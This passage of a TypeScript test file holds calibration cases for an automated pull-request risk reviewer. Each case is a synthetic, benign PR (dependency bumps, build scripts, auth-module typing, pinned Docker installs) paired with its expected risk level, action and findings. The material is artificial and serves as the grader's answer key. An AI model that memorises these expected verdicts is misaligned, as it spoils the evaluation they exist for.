    description:
      'A first-time contributor (account 6 years old) rewrites the login flow with its tests, 300 lines: a sensitive path beside the missing history keeps it medium whatever the tests.',
    repo: 'courier',
    title: 'Remember the login across restarts',
    author: { login: 'mira-oduya', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2020-03-14T00:00:00Z' },
    files: [
      { path: 'src/auth/login-flow.ts', base: tsFunctions('loginStep', 10), head: tsFunctions('loginStep', 45, "return input.split('.')[0] ?? '';") },
      { path: 'test/auth/login-flow.test.ts', head: tsFunctions('testLogin', 20, "return expect(input).toBe('x');") },
    ],
    expect: { level: 'medium', action: ['comment', 'needs_discussion'], noFindings: true, drivers: ['author-trust', 'sensitive-paths'] },
  }),
  pr({
    id: 'cal21-rust-crate-test-macro',
    description:
      "A first-time contributor (account 5 years old) dedupes the methods of a merged router's Allow header in a Rust web framework and adds two tests to the file's test module with the crate's own test macro (`#[crate::test]`, re-exported at the crate root); CI green. Tests came with the change: no tests-missing, low.",
    repo: 'trellis-rs',
    title: 'fix: deduplicate methods in the Allow header after merging routers',
    author: { login: 'sakura-ito', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2021-05-02T00:00:00Z' },
    files: [
      {
        path: 'trellis/src/routing/method_routing.rs',
        base: lines(
          'pub(crate) fn allow_header(methods: &[Method]) -> String {',
          '    let mut out = Vec::new();',
          '    for m in methods {',
          '        out.push(m.as_str());',
          '    }',
          '    out.join(",")',
          '}',
          '',
          '#[cfg(test)]',
          'mod tests {',
          '    use super::*;',
          '',
          '    #[crate::test]',
          '    async fn empty() {',
          '        assert_eq!(allow_header(&[]), "");',
          '    }',
          '}',
        ),
        head: lines(
          'pub(crate) fn allow_header(methods: &[Method]) -> String {',
          '    let mut out: Vec<&str> = Vec::new();',
          '    for m in methods {',
          '        if !out.contains(&m.as_str()) {',
          '            out.push(m.as_str());',
          '        }',
          '    }',
          '    if out.contains(&"GET") && !out.contains(&"HEAD") {',
          '        out.push("HEAD");',
          '    }',
          '    out.join(",")',
          '}',
          '',
          '#[cfg(test)]',
          'mod tests {',
          '    use super::*;',
          '',
          '    #[crate::test]',
          '    async fn empty() {',
          '        assert_eq!(allow_header(&[]), "");',
          '    }',
          '',
          ...rustTests('dedupes', 2),
          '}',
        ),
      },
    ],
    checks: [{ name: 'test (stable)' }, { name: 'clippy' }],
    expect: { level: 'low', action: 'comment', noFindings: true, absentDrivers: ['tests-missing'] },
  }),
  pr({
    id: 'cal21-first-timer-example-program',
    description:
      'Modeled on a metrics library whose examples/ folder holds small programs: a first-time contributor (account 3 years old) rewrites one example to follow the naming conventions, 40 lines of Go, no test; CI green. An example shows the library and ships nothing: it asks no test, so the missing history alone leaves it low.',
    repo: 'gauge-go',
    title: 'examples: follow the established metric naming conventions',
    author: { login: 'lukas-brandt', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2023-02-01T00:00:00Z' },
    files: [{ path: 'examples/custom-labels/main.go', base: goExample(4), head: goExample(16) }],
    checks: [{ name: 'test (1.25)' }, { name: 'lint' }],
    expect: { level: 'low', action: 'comment', noFindings: true, absentDrivers: ['tests-missing'] },
  }),
  pr({
    id: 'cal21-examples-workspace-lockfile-refresh',
    description:
      "Modeled on a Rust web framework whose examples live in a workspace of their own (examples/Cargo.toml, examples/Cargo.lock): a maintainer moves the Postgres example to a new 0.x minor of its database crate, and the examples' lockfile brings in 14 crates it now needs; CI green. The library's users install none of them: together they weigh no more than 0.1, low.",
    repo: 'trellis-rs',
    title: 'examples: update to dbkit 0.9',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'examples/postgres/Cargo.toml',
        base: lines('[package]', 'name = "example-postgres"', 'version = "0.1.0"', 'edition = "2021"', 'publish = false', '', '[dependencies]', 'trellis = { path = "../../trellis" }', 'dbkit = "0.8.6"'),
        head: lines('[package]', 'name = "example-postgres"', 'version = "0.1.0"', 'edition = "2021"', 'publish = false', '', '[dependencies]', 'trellis = { path = "../../trellis" }', 'dbkit = "0.9.0"'),
      },
      (() => {
        const crate = (name: string, version: string, seed: string) => ['[[package]]', `name = "${name}"`, `version = "${version}"`, 'source = "registry+https://github.com/rust-lang/crates.io-index"', `checksum = "${seed.repeat(64)}"`, ''];
        const local = ['[[package]]', 'name = "example-postgres"', 'version = "0.1.0"', 'dependencies = [', ' "dbkit",', ']', ''];
        const added = Array.from({ length: 14 }, (_, i) => crate(`dbkit-support-${i}`, `0.${i + 1}.0`, 'c'));
        return {
          path: 'examples/Cargo.lock',
          base: lines('version = 4', '', ...local, ...crate('dbkit', '0.8.6', 'a')),
          head: lines('version = 4', '', ...local, ...crate('dbkit', '0.9.0', 'b'), ...added.flat()),
        };
      })(),
    ],
    checks: GREEN_RUST,
    expect: { level: 'low', action: ['approve', 'comment'] },
  }),
  pr({
    id: 'cal21-auth-module-return-annotations',
    description:
      "Modeled on an HTTP client's typing PRs: a maintainer adds the missing `-> None` to the constructors of the authentication classes and exports one more class by name in the module's one-line `__all__`; CI green. Declarations only, nothing runs differently: the authentication module is not weighed as changed, low.",
    repo: 'httpkit',
    title: 'add missing type hints to __init__(...)',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'httpkit/_auth.py',
        base: lines(
          'import typing',
          '',
          '__all__ = ["Auth", "BasicAuth", "DigestAuth"]',
          '',
          '',
          'class BasicAuth(Auth):',
          '    def __init__(',
          '        self, username: typing.Union[str, bytes], password: typing.Union[str, bytes]',
          '    ):',
          '        self._auth_header = self._build_auth_header(username, password)',
          '',
          '',
          'class NetRCAuth(Auth):',
          '    def __init__(self, file: typing.Optional[str] = None):',
          '        self._netrc_info = load_netrc(file)',
        ),
        head: lines(
          'import typing',
          '',
          '__all__ = ["Auth", "BasicAuth", "DigestAuth", "NetRCAuth"]',
          '',
          '',
          'class BasicAuth(Auth):',
          '    def __init__(',
          '        self, username: typing.Union[str, bytes], password: typing.Union[str, bytes]',
          '    ) -> None:',
          '        self._auth_header = self._build_auth_header(username, password)',
          '',
          '',
          'class NetRCAuth(Auth):',
          '    def __init__(self, file: typing.Optional[str] = None) -> None:',
          '        self._netrc_info = load_netrc(file)',
        ),
      },
    ],
    checks: GREEN_PY,
    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal21-lint-rule-message-code-span',
    description:
      "Modeled on a Ruby linter's history: a first-time contributor (account 7 years old) makes a rule suggest the closest known rule name, in a message that quotes it in Markdown backticks (`\"(did you mean `#{similar}`?)\"`), with a spec; CI green. A backtick inside a double-quoted string is a character, not a shell command: no finding, low.",
    repo: 'lintbox',
    title: 'Suggest the closest rule name for an unknown one in directives',
    author: { login: 'yusuf-kaya', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2019-08-30T00:00:00Z' },
    files: [
      {
        path: 'lib/lintbox/rule/lint/directive_syntax.rb',
        base: lines('module Lintbox', '  class DirectiveSyntax', '    MSG = "Unknown rule %<name>s."', '', '    def unknown_message(name)', '      format(MSG, name: name)', '    end', '  end', 'end'),
        head: lines(
          'module Lintbox',
          '  class DirectiveSyntax',
          '    MSG = "Unknown rule %<name>s%<suggestion>s."',
          '',
          '    def unknown_message(name, registry)',
          '      similar = NameSimilarity.find_similar_name(name, registry.names)',
          '      suggestion = similar ? " (did you mean `#{similar}`?)" : \'\'',
          '      format(MSG, name: name, suggestion: suggestion)',
          '    end',
          '  end',
          'end',
        ),
      },
      { path: 'spec/lintbox/rule/lint/directive_syntax_spec.rb', base: lines('RSpec.describe Lintbox::DirectiveSyntax do', 'end'), head: lines('RSpec.describe Lintbox::DirectiveSyntax do', "  it 'suggests a close name' do", "    expect(message_for('Lint/Debuger')).to include('did you mean `Lint/Debugger`')", '  end', 'end') },
    ],
    checks: GREEN_RUBY,
    expect: { level: 'low', action: 'comment', noFindings: true },
  }),
  pr({
    id: 'cal21-helper-and-its-ava-test-removed',
    description:
      "Modeled on an HTTP client tested with AVA, whose tests are named as their subjects (test/url-to-options.ts): a maintainer inlines a URL helper into its one caller and deletes the helper with its test; CI green. The code the test tested is gone: no tests-deleted, low.",
    repo: 'fetchling',
    title: 'Inline the url-to-options helper',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'source/core/utils/url-to-options.ts', base: tsFunctions('urlToOptionsPart', 8, 'return new URL(input).host;') },
      { path: 'test/url-to-options.ts', base: tsFunctions('testUrlToOptions', 30, "return expect(input).toBe('x');") },
      { path: 'source/core/index.ts', base: tsFunctions('requestPart', 6), head: tsFunctions('requestPart', 8, 'return new URL(input).host;') },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true, absentDrivers: ['tests-deleted'] },
  }),
  pr({
    id: 'cal21-lint-rule-fix-named-in-title',
    description:
      "Modeled on a Ruby linter's history: a first-time contributor (account 5 years old) titles a PR after the rule it fixes, 'Fix Lint/DuplicateMethods false positives for Class.new', and changes that rule's own file with a spec; CI green. The rule's name is not a claim of a lint clean-up: no pr-claim-mismatch, low.",
    repo: 'lintbox',
    title: 'Fix Lint/DuplicateMethods false positives for Class.new in named-receiver calls',
    author: { login: 'ana-petrova', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: '2021-04-11T00:00:00Z' },
    files: [
      {
        path: 'lib/lintbox/rule/lint/duplicate_methods.rb',
        base: lines('module Lintbox', '  class DuplicateMethods', '    def on_def(node)', '      return if node.parent.nil?', '      check(node)', '    end', '  end', 'end'),
        head: lines('module Lintbox', '  class DuplicateMethods', '    def on_def(node)', '      return if node.parent.nil? || anonymous_class?(node.parent)', '      check(node)', '    end', '  end', 'end'),
      },
      { path: 'spec/lintbox/rule/lint/duplicate_methods_spec.rb', base: lines('RSpec.describe Lintbox::DuplicateMethods do', 'end'), head: lines('RSpec.describe Lintbox::DuplicateMethods do', "  it 'accepts methods of Class.new blocks' do", "    expect_no_offenses('Foo.bar(Class.new { def a; end })')", '  end', 'end') },
    ],
    checks: GREEN_RUBY,
    expect: { level: 'low', action: 'comment', noFindings: true },
  }),
  pr({
    id: 'cal21-docs-site-and-playground-zero-minor',
    description:
      "Modeled on a bundler monorepo's dependency updates: a maintainer moves the minifier the documentation site uses (docs/package.json, a private VitePress site) and the parser a playground fixture imports (playground/sourcemap/package.json) from 0.142 to 0.144, a breaking step for a 0.x package; CI green. Neither is installed by the bundler's users: development tooling, whose breakage the green build rules out (low).",
    repo: 'kiln',
    title: 'fix(deps): update minifier-related dependencies',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'docs/package.json',
        base: packageJson({ name: '@kiln/docs', version: '0.0.0', dependencies: { 'quartz-minify': '^0.142.0', vitepress: '^2.0.0' } }),
        head: packageJson({ name: '@kiln/docs', version: '0.0.0', dependencies: { 'quartz-minify': '^0.144.0', vitepress: '^2.0.0' } }),
      },
      {
        path: 'playground/sourcemap/package.json',
        base: packageJson({ name: '@kiln/test-sourcemap', version: '0.0.0', dependencies: { 'quartz-parser': '^0.142.0' } }),
        head: packageJson({ name: '@kiln/test-sourcemap', version: '0.0.0', dependencies: { 'quartz-parser': '^0.144.0' } }),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal21-library-runtime-zero-minor',
    description: "The same 0.x step in the bundler package's own dependencies (packages/kiln/package.json): its users install it, so the breaking update is medium.",
    repo: 'kiln',
    title: 'fix(deps): update minifier-related dependencies',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'packages/kiln/package.json',
        base: packageJson({ name: 'kiln', version: '8.1.0', dependencies: { 'quartz-minify': '^0.142.0' } }),
        head: packageJson({ name: 'kiln', version: '8.1.0', dependencies: { 'quartz-minify': '^0.144.0' } }),
      },
    ],
    expect: { level: 'medium', action: 'comment', noFindings: true, drivers: ['major-updates'] },
  }),
];

const LEAD_1129_CASES: CorpusEntry[] = [
  pr({
    id: 'cal-module-rename-through-auth',
    description:
      'A maintainer renames the helpers module shopfront/utils.py to shopfront/text.py (GitHub lists it as a rename with no line changed) and rewrites the imports that name it across the tree, three of them in shopfront/auth/: the same functions from the same code under a new name. Nothing in the auth modules runs differently; CI green.',
    repo: 'shopfront',
    title: 'Rename shopfront.utils to shopfront.text',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'shopfront/auth/login.py',
        base: lines('from shopfront.utils import slugify, utcnow', '', '', 'def label(value):', '    return f"{slugify(value)}-{utcnow():%Y%m%d}"', ''),
        head: lines('from shopfront.text import slugify, utcnow', '', '', 'def label(value):', '    return f"{slugify(value)}-{utcnow():%Y%m%d}"', ''),
      },
      {
        path: 'shopfront/auth/tokens.py',
        base: lines('from shopfront.utils import slugify, utcnow', '', '', 'def label(value):', '    return f"{slugify(value)}-{utcnow():%Y%m%d}"', ''),
        head: lines('from shopfront.text import slugify, utcnow', '', '', 'def label(value):', '    return f"{slugify(value)}-{utcnow():%Y%m%d}"', ''),
      },
      {
        path: 'shopfront/auth/permissions.py',
        base: lines('from shopfront.utils import slugify, utcnow', '', '', 'def label(value):', '    return f"{slugify(value)}-{utcnow():%Y%m%d}"', ''),
        head: lines('from shopfront.text import slugify, utcnow', '', '', 'def label(value):', '    return f"{slugify(value)}-{utcnow():%Y%m%d}"', ''),
      },
      {
        path: 'shopfront/views/home.py',
        base: lines('from shopfront.utils import slugify, utcnow', '', '', 'def label(value):', '    return f"{slugify(value)}-{utcnow():%Y%m%d}"', ''),
        head: lines('from shopfront.text import slugify, utcnow', '', '', 'def label(value):', '    return f"{slugify(value)}-{utcnow():%Y%m%d}"', ''),
      },
      {
        path: 'shopfront/views/orders.py',
        base: lines('from shopfront.utils import slugify, utcnow', '', '', 'def label(value):', '    return f"{slugify(value)}-{utcnow():%Y%m%d}"', ''),
        head: lines('from shopfront.text import slugify, utcnow', '', '', 'def label(value):', '    return f"{slugify(value)}-{utcnow():%Y%m%d}"', ''),
      },
      {
        path: 'shopfront/models/user.py',
        base: lines('from shopfront.utils import slugify, utcnow', '', '', 'def label(value):', '    return f"{slugify(value)}-{utcnow():%Y%m%d}"', ''),
        head: lines('from shopfront.text import slugify, utcnow', '', '', 'def label(value):', '    return f"{slugify(value)}-{utcnow():%Y%m%d}"', ''),
      },
      { path: 'shopfront/text.py', previousPath: 'shopfront/utils.py', status: 'renamed', additions: 0, deletions: 0, patch: null },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], absentDrivers: ['sensitive-paths'] },
  }),
  pr({
    id: 'cal-own-build-moved-to-prepare',
    description:
      "A maintainer of a web framework moves the TypeScript build from prepack to prepare, so that installing the repository from git gets its dist/ (koa's shape): the same `npm run build`, and build stays `tsc -p tsconfig.build.json`. An install script that only runs the package's own compiler is a low note; CI green.",
    repo: 'trellis-web',
    title: 'build: run the build on prepare so git installs work',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'package.json',
        base: packageJson({ name: 'trellis-web', version: '3.0.0', scripts: { test: 'vitest run', build: 'tsc -p tsconfig.build.json', prepack: 'npm run build' } }),
        head: packageJson({ name: 'trellis-web', version: '3.0.0', scripts: { test: 'vitest run', build: 'tsc -p tsconfig.build.json', prepare: 'npm run build' } }),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['npm-install-script'] },
  }),
  pr({
    id: 'cal-own-build-tsup-and-hooks',
    description: 'A maintainer of a CLI adds a prepare script that cleans dist/, bundles with tsup and sets up husky: nothing but the repository\'s own build and hooks runs on install; CI green.',
    repo: 'lintkit-cli',
    title: 'chore: build on prepare',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'package.json',
        base: packageJson({ name: 'lintkit-cli', version: '0.9.2', scripts: { test: 'vitest run', build: 'tsup' } }),
        head: packageJson({ name: 'lintkit-cli', version: '0.9.2', scripts: { test: 'vitest run', build: 'tsup', prepare: 'rimraf dist && npm run build && husky' } }),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['npm-install-script'] },
  }),
  pr({
    id: 'cal-validator-message-unauthorized',
    description:
      "A maintainer of an OAuth provider library moves the redirect URI scheme check into the validator class (django-oauth-toolkit's shape): the model's inline `raise ValidationError(_(\"Unauthorized redirect scheme: …\"))` goes, the validator gains the same test with its own message. A word in an error message is no auth check; CI green.",
    repo: 'oauth-provider-kit',
    title: 'fix: RedirectURIValidator encapsulation',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'provider/models.py',
        base: lines(
          '    def clean(self):',
          '        allowed_schemes = set(s.lower() for s in self.get_allowed_schemes())',
          '        if redirect_uris:',
          '            validator = RedirectURIValidator(WildcardSet())',
          '            for uri in redirect_uris:',
          '                validator(uri)',
          '                scheme = urlparse(uri).scheme',
          '                if scheme not in allowed_schemes:',
          '                    raise ValidationError(_("Unauthorized redirect scheme: {scheme}").format(scheme=scheme))',
        ),
        head: lines(
          '    def clean(self):',
          '        allowed_schemes = set(s.lower() for s in self.get_allowed_schemes())',
          '        if redirect_uris:',
          '            validator = AllowedURIValidator(allowed_schemes, name="redirect uri", allow_path=True)',
          '            for uri in redirect_uris:',
          '                validator(uri)',
        ),
      },
      {
        path: 'provider/validators.py',
        base: lines('class AllowedURIValidator(URIValidator):', '    def __init__(self, schemes, name):', '        self.schemes = schemes', '        self.name = name'),
        head: lines(
          'class AllowedURIValidator(URIValidator):',
          '    def __init__(self, schemes, name, allow_path=False):',
          '        self.schemes = schemes',
          '        self.name = name',
          '        self.allow_path = allow_path',
          '',
          '    def __call__(self, value):',
          '        scheme = urlparse(value).scheme',
          '        if scheme not in self.schemes:',
          '            raise ValidationError("%(name)s has an invalid scheme" % {"name": self.name})',
        ),
      },
      { path: 'tests/test_validators.py', base: lines('def test_scheme():', '    assert True'), head: lines('def test_scheme():', '    with pytest.raises(ValidationError):', '        AllowedURIValidator({"https"}, "uri")("http://x")') },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:auth-check-removed'] },
  }),
  pr({
    id: 'cal19-new-cli-argv-process-calls',
    description:
      "A regular contributor adds two maintenance tools: a Node script that reads a directory from process.argv and runs `execFileSync('git', ['clone', '--depth=1', url, dir])`, and a Go command that reads os.Args and runs `exec.Command(\"git\", \"-C\", dir, \"pull\")`. Both pass arguments as a vector, no shell reads them, so the argv reads in the same new file (one hunk) make no command injection: low, as a shell-free process call is.",
    repo: 'fixturehub',
    title: 'Add tools to fetch and refresh the fixture repositories',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: 'scripts/fetch-fixtures.mjs',
        head: lines(
          "import { execFileSync } from 'node:child_process';",
          '',
          "const dir = process.argv[2] ?? 'fixtures';",
          "const url = 'https://github.com/northwind/fixtures.git';",
          '',
          "execFileSync('git', ['clone', '--depth=1', url, dir], { stdio: 'inherit' });",
          "console.log(`fixtures in ${dir}`);",
          '',
        ),
      },
      {
        path: 'cmd/refresh-fixtures/main.go',
        head: lines(
          'package main',
          '',
          'import (',
          '\t"log"',
          '\t"os"',
          '\t"os/exec"',
          ')',
          '',
          'func main() {',
          '\tfor _, dir := range os.Args[1:] {',
          '\t\tcmd := exec.Command("git", "-C", dir, "pull", "--ff-only")',
          '\t\tcmd.Stdout = os.Stdout',
          '\t\tif err := cmd.Run(); err != nil {',
          '\t\t\tlog.Fatal(err)',
          '\t\t}',
          '\t}',
          '}',
          '',
        ),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'] },
  }),
  pr({
    id: 'cal19-template-literal-not-a-shell',
    description:
      "A maintainer's log message stops cutting an upload's path to its file name: `` logger.info(`stored ${path.basename(file)}`) `` becomes `` logger.info(`stored ${file}`) ``. A sanitizer-like call left a line (medium), but a JavaScript template literal runs no command: the backtick is no shell, so nothing is raised to high.",
    repo: 'dropzone-api',
    title: 'log the full stored path',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'src/storage/store.ts',
        base: lines("import path from 'node:path';", '', 'export async function store(file: string): Promise<void> {', '  await copy(file);', '  logger.info(`stored ${path.basename(file)}`);', '}', ''),
        head: lines("import path from 'node:path';", '', 'export async function store(file: string): Promise<void> {', '  await copy(file);', '  logger.info(`stored ${file}`);', '}', ''),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
  }),
];

/** Build files that fetch code the ordinary, pinned ways: no remote-package-install. */
const ATTACKS14_CASES: CorpusEntry[] = [
  pr({
    id: 'cal-attacks16-npmrc-token-and-nox-install',
    description:
      "A maintainer's release PR: the publish workflow writes the npm auth token into .npmrc (an `//registry.npmjs.org/:_authToken=` line, no registry of its own) and pins pip to PyPI in pip.conf, and noxfile.py's test session installs the package in editable mode. No index or registry beside the public ones.",
    repo: 'tint-py',
    title: 'Release tooling: publish from CI, editable install in nox',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_PY,
    files: [
      {
        path: '.github/workflows/publish.yml',
        base: lines('name: publish', 'on:', '  release:', '    types: [published]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - run: npm ci'),
        head: lines(
          'name: publish',
          'on:',
          '  release:',
          '    types: [published]',
          'jobs:',
          '  publish:',
          '    runs-on: ubuntu-latest',
          '    steps:',
          '      - uses: actions/checkout@v4',
          '      - run: |',
          '          echo "//registry.npmjs.org/:_authToken=${NODE_AUTH_TOKEN}" > .npmrc',
          '          echo "index-url = https://pypi.org/simple" >> ~/.pip/pip.conf',
          '      - run: npm ci',
        ),
      },
      {
        path: 'noxfile.py',
        base: lines('import nox', '', '', '@nox.session', 'def tests(session):', '    session.install("-r", "requirements-dev.txt")', '    session.run("pytest")'),
        head: lines('import nox', '', '', '@nox.session', 'def tests(session):', '    session.install("-e", ".[test]")', '    session.run("pytest", "--base-url", "https://staging.tint.dev/")'),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:npm-registry-override', 'finding:pip-extra-index'] },
  }),
  pr({
    id: 'cal-attacks17-heredoc-token-and-nox-arguments',
    description:
      "A maintainer's tooling PR: the release script writes the npm auth token into .npmrc and a pip timeout into pip.conf with here-documents (no registry or index of their own), the Makefile writes uv.toml with PyPI as its index, and noxfile.py adds a test dependency under a `session.install(` that already passed the project's own wheel index. No index or registry the base did not have.",
    repo: 'tint-py',
    title: 'Release and test tooling tidy-up',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_PY,
    files: [
      {
        path: 'scripts/release.sh',
        base: lines('#!/usr/bin/env bash', 'set -euo pipefail', 'npm publish'),
        head: lines('#!/usr/bin/env bash', 'set -euo pipefail', 'cat > ~/.npmrc <<EOF', '//registry.npmjs.org/:_authToken=${NPM_TOKEN}', 'EOF', 'cat > ~/.config/pip/pip.conf <<EOF', '[global]', 'timeout = 60', 'index-url = https://pypi.org/simple', 'EOF', 'npm publish'),
      },
      {
        path: 'Makefile',
        base: lines('.PHONY: sync', 'sync:', '\tuv sync'),
        head: lines('.ONESHELL:', '.PHONY: sync', 'sync:', '\tcat > uv.toml <<-EOF', '\t[[index]]', '\turl = "https://pypi.org/simple"', '\tdefault = true', '\tEOF', '\tuv sync'),
      },
      {
        path: 'noxfile.py',
        base: lines('import nox', '', '', '@nox.session', 'def tests(session):', '    session.install(', '        "--extra-index-url",', '        "https://wheels.tint.dev/simple",', '        "-r",', '        "requirements-dev.txt",', '    )', '    session.run("pytest")'),
        head: lines('import nox', '', '', '@nox.session', 'def tests(session):', '    session.install(', '        "--extra-index-url",', '        "https://wheels.tint.dev/simple",', '        "hypothesis",', '        "-r",', '        "requirements-dev.txt",', '    )', '    session.run("pytest")'),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:npm-registry-override', 'finding:pip-extra-index'] },
  }),
  pr({
    id: 'cal-attacks14-dockerfile-pinned-installs',
    description:
      "A maintainer reworks the service image: requirements from a file, the service's own commands by `go install ./cmd/...`, a lint tool at a released version, a patched fork of a library pinned by its full commit, and the monitoring agent's tarball by `ADD --checksum=sha256:…`. Nothing is fetched from a moving ref or without a hash.",
    repo: 'ledgerd',
    title: 'Rework the service image',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_GO,
    files: [
      {
        path: 'Dockerfile',
        base: lines(`FROM golang:1.23@sha256:${'b'.repeat(64)} AS build`, 'WORKDIR /src', 'COPY . .', 'RUN go build -o /out/ledgerd ./cmd/ledgerd', `FROM python:3.12-slim@sha256:${'c'.repeat(64)}`, 'COPY --from=build /out/ledgerd /usr/local/bin/', 'CMD ["ledgerd"]'),
        head: lines(
          `FROM golang:1.23@sha256:${'b'.repeat(64)} AS build`,
          'WORKDIR /src',
          'COPY . .',
          'RUN go install ./cmd/... && go install honnef.co/go/tools/cmd/staticcheck@v0.5.1',
          `FROM python:3.12-slim@sha256:${'c'.repeat(64)}`,
          'COPY requirements.txt /tmp/',
          'RUN pip install --no-cache-dir --require-hashes -r /tmp/requirements.txt \\',
          '    && pip install --no-cache-dir git+https://github.com/ledger-forks/pyyaml@4f2a9c1d7e0b3a5c6d8e9f0a1b2c3d4e5f6a7b8c',
          `ADD --checksum=sha256:${'d'.repeat(64)} https://downloads.example-apm.com/agent/agent-3.4.1-linux-amd64.tar.gz /opt/`,
          'COPY --from=build /go/bin/ /usr/local/bin/',
          'CMD ["ledgerd"]',
        ),
      },
    ],
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:remote-package-install', 'finding:go-run-unpinned'] },
  }),  pr({
    id: 'cal-attacks14-makefile-go-install-latest',
    description:
      "The everyday Go form: a maintainer adds a `tools` target that runs `go install golang.org/x/vuln/cmd/govulncheck@latest` (the Go team's scanner at its newest release, as Prometheus' shared Makefile does) next to `go install ./cmd/...`: a low note to pin it, not a reason to hold the PR.",
    repo: 'ledgerd',
    title: 'make: add a tools target with govulncheck',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    checks: GREEN_GO,
    files: [
      {
        path: 'Makefile',
        base: lines('.PHONY: build test', '', 'build:', '\tgo build ./...', '', 'test:', '\tgo test ./...'),
        head: lines('.PHONY: build test tools vulncheck', '', 'build:', '\tgo build ./...', '', 'test:', '\tgo test ./...', '', 'tools:', '\tgo install ./cmd/...', '\tcommand -v govulncheck > /dev/null || go install golang.org/x/vuln/cmd/govulncheck@latest', '', 'vulncheck: tools', '\tgovulncheck ./...'),
      },
    ],
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['go-run-unpinned'], absentDrivers: ['finding:remote-package-install'] },
  }),
];

export const CALIBRATION_CASES: CorpusEntry[] = [...LEAD_1129_CASES, ...HUMAN_CASES, ...BOT_CASES, ...EVERYDAY_CASES, ...TRUST_CASES, ...REAL_HISTORY_CASES, ...CALIB14_CASES, ...REPLAY_1129_CASES, ...CALIB17_CASES, ...CALIB19_CASES, ...CALIB21_CASES, ...ATTACKS14_CASES];
